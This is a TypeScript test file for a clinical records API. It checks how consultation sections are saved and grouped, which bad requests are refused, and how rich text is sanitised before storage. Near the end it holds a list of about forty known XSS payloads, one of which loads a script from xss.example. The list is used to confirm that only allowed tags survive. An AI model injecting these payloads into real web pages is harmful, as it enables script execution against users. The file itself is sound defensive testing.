/**
 * Consultation sections through PUT /api/patients and the entry update: grouping by title and
 * day, the patient record, refusals, and the rich-text sanitising (XSS corpus and the allowed
 * formatting) before anything is stored.
 */
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { CONSULTATION_TEXTS } from '../../../domain/consultations';
import { consultationEntries } from '../../db/schema';
import { makePatient } from '../../test/factories';
import { consultationsContext } from './test/fixture';

const { ctx, db, doctor, patientId, save, groupsOf, entriesOf, audited } = await consultationsContext();

describe('consultation sections (PUT /api/patients)', () => {
  it('saves one section into a group dated today in Bucharest, then joins the others to it', async () => {
    const title = 'Consultatie 23.11.2026';
    const first = await save({ consultationTitle: title, reason: '<p>Durere toracică</p>' });
    expect(first.statusCode).toBe(200);
    expect(first.json()).toMatchObject({
      status: 1,
      message: CONSULTATION_TEXTS.saved,
      consultation: { title, date: '2026-11-23', sections: ['reason'] },
    });
    const guid = first.json().consultation.guid;
    const second = await save({ consultationTitle: title, diagnosis: '<p>Angină</p>', recs: '<p></p>' });
    expect(second.json().consultation).toMatchObject({ guid, sections: ['diagnosis'] });
    const again = await save({ consultationTitle: title, reason: '<p>Durere toracică la efort</p>' });
    expect(again.json().consultation.guid).toBe(guid);

    const groups = await groupsOf(patientId);
    expect(groups).toHaveLength(1);
    expect(groups[0]).toMatchObject({ guid, title, date: '2026-11-23', createdBy: doctor.id });
    const entries = await entriesOf(guid);
    expect(entries.map((e) => [e.type, e.content, e.doctorId])).toEqual([
      ['reason', '<p>Durere toracică la efort</p>', doctor.id],
      ['diagnosis', '<p>Angină</p>', doctor.id],
    ]);
    expect(await audited('consultation.save', patientId)).toHaveLength(3);
  });

  it('starts a new group for another title', async () => {
    const res = await save({ consultationTitle: 'Control', treatment: '<p>Aspirină 75 mg</p>' });
    expect(res.statusCode).toBe(200);
    expect(await groupsOf(patientId)).toHaveLength(2);
  });

  it('shows the groups and entries in the patient record', async () => {
    const res = await ctx.app.inject({
      method: 'GET',
      url: `/api/patients/${patientId}`,
      headers: doctor.headers,
    });
    const groups = res.json().patient.consultations;
    const first = groups.find((g: { title: string }) => g.title === 'Consultatie 23.11.2026');
    expect(first.date).toBe('2026-11-23');
    expect(first.consultations).toEqual([
      expect.objectContaining({
        type: 'reason',
        type_label: 'Motivul consultației',
        doctor: 'Ioana Popescu',
      }),
      expect.objectContaining({
        type: 'diagnosis',
        type_label: 'Diagnostic prezumtiv',
        content: '<p>Angină</p>',
      }),
    ]);
  });

  it('lists sections in the form order whatever order they were saved in, newest consultation first', async () => {
    const pid = (await makePatient(db, { name: 'Ordine Clinica' })).id;
    const put = (payload: Record<string, unknown>) =>
      ctx.app.inject({
        method: 'PUT',
        url: '/api/patients',
        payload: { patientId: pid, ...payload },
        headers: doctor.headers,
      });
    const older = 'Consultatie veche';
    for (const section of ['recs', 'diagnosis', 'reason', 'familyPriors'] as const)
      expect((await put({ consultationTitle: older, [section]: `<p>${section}</p>` })).statusCode).toBe(200);
    expect((await put({ consultationTitle: 'Control', treatment: '<p>t</p>' })).statusCode).toBe(200);

    const res = await ctx.app.inject({ method: 'GET', url: `/api/patients/${pid}`, headers: doctor.headers });
    const groups = res.json().patient.consultations as { title: string; consultations: { type: string }[] }[];
    expect(groups.map((g) => g.title)).toEqual(['Control', older]);
    expect(groups[1].consultations.map((e) => e.type)).toEqual([
      'reason',
      'familyPriors',
      'diagnosis',
      'recs',
    ]);
  });

  it('refuses an empty form, a missing title and an unknown patient', async () => {
    const empty = await save({ consultationTitle: 'X', reason: '<p> </p>', recs: '<script>x</script>' });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().message).toBe(CONSULTATION_TEXTS.nothingToSave);
    const noTitle = await save({ consultationTitle: '', reason: '<p>a</p>' });
    expect(noTitle.statusCode).toBe(400);
    expect(noTitle.json()).toMatchObject({ errors: { consultationTitle: CONSULTATION_TEXTS.titleRequired } });
    const unknown = await ctx.app.inject({
      method: 'PUT',
      url: '/api/patients',
      payload: { patientId: 999999, consultationTitle: 'X', reason: '<p>a</p>' },
      headers: doctor.headers,
    });
    expect(unknown.statusCode).toBe(404);
  });
});

describe('consultation entry update (PUT /api/patients/:id/consultations/:entryId)', () => {
  it('saves new sanitised content and audits it', async () => {
    const [g] = await groupsOf(patientId);
    const [entry] = await entriesOf(g.guid);
    const res = await ctx.app.inject({
      method: 'PUT',
      url: `/api/patients/${patientId}/consultations/${entry.id}`,
      payload: {
        id: entry.id,
        patientId,
        content: '<p onclick="x()">Revizuit <b>azi</b></p><script>alert(1)</script>',
      },
      headers: doctor.headers,
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      status: 1,
      message: CONSULTATION_TEXTS.entrySaved,
      content: '<p>Revizuit <b>azi</b></p>',
    });
    const [row] = await db.select().from(consultationEntries).where(eq(consultationEntries.id, entry.id));
    expect(row.content).toBe('<p>Revizuit <b>azi</b></p>');
    expect(await audited('consultation.entry.update', patientId)).toHaveLength(1);
  });

  it("refuses blank content, another patient's entry and mismatched ids", async () => {
    const [g] = await groupsOf(patientId);
    const [entry] = await entriesOf(g.guid);
    const url = `/api/patients/${patientId}/consultations/${entry.id}`;
    const blank = await ctx.app.inject({
      method: 'PUT',
      url,
      payload: { content: '<p></p>' },
      headers: doctor.headers,
    });
    expect(blank.statusCode).toBe(400);
    expect(blank.json().message).toBe(CONSULTATION_TEXTS.contentRequired);
    const other = (await makePatient(db, { name: 'Alt Pacient' })).id;
    const wrong = await ctx.app.inject({
      method: 'PUT',
      url: `/api/patients/${other}/consultations/${entry.id}`,
      payload: { content: '<p>x</p>' },
      headers: doctor.headers,
    });
    expect(wrong.statusCode).toBe(404);
    const mismatch = await ctx.app.inject({
      method: 'PUT',
      url,
      payload: { id: entry.id + 1, content: '<p>x</p>' },
      headers: doctor.headers,
    });
    expect(mismatch.statusCode).toBe(400);
  });
});

/** Known XSS vectors (OWASP filter evasion cheat sheet and friends). */
const XSS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">link</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<span onclick=alert(1)>click</span>',
  '<div style="width:expression(alert(1))">expr</div>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>m</marquee>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img """><script>alert(1)</script>">',
  '<svg><script>alert(1)</script></svg>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<h1 onclick="alert(1)">T</h1>',
  '<pre onmouseover=alert(1)>pre</pre>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<b/onclick=alert(1)>bold</b>',
  '<a href="jAvAsCrIpT&colon;alert(1)">mixed</a>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<div><!--<img src=x onerror=alert(1)>--></div>',
  '<select onfocus=alert(1) autofocus><option>o</option></select>',
  '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<ul><li class="x" id="y" data-x="1">item</li></ul>',
];
const ALLOWED = new Set([
  'p',
  'br',
  'b',
  'strong',
  'i',
  'em',
  'u',
  'ul',
  'ol',
  'li',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'span',
  'div',
  'pre',
]);

describe('sanitising of rich text before it is stored', () => {
  it(`neutralises ${XSS.length} known XSS payloads`, async () => {
    expect(XSS.length).toBeGreaterThanOrEqual(30);
    for (const [i, payload] of XSS.entries()) {
      const res = await save({ consultationTitle: `XSS ${i}`, reason: `<p>Text ${i}</p>${payload}` });
      expect(res.statusCode, payload).toBe(200);
      const [entry] = await entriesOf(res.json().consultation.guid);
      const stored = entry.content;
      expect(stored.startsWith(`<p>Text ${i}</p>`), payload).toBe(true);
      for (const m of stored.matchAll(/<\/?([a-zA-Z][^\s/>]*)/g))
        expect(ALLOWED, `${payload} -> ${stored}`).toContain(m[1].toLowerCase());
      expect(stored, payload).not.toMatch(/<[a-z0-9]+[\s/][^>]*>/i); // no attributes at all
      expect(stored, payload).not.toMatch(/javascript|onerror|onload|onclick|<script|<img|<a[\s>]/i);
    }
  });

  it('keeps the allowed formatting', async () => {
    const html =
      '<h2>Titlu</h2><p><strong>a</strong> <em>b</em> <u>c</u><br></p><ol><li>x</li></ol><pre>cod</pre>';
    const res = await save({ consultationTitle: 'Format', recs: html });
    const [entry] = await entriesOf(res.json().consultation.guid);
    expect(entry.content).toBe(html.replace('<br>', '<br />'));
  });
});
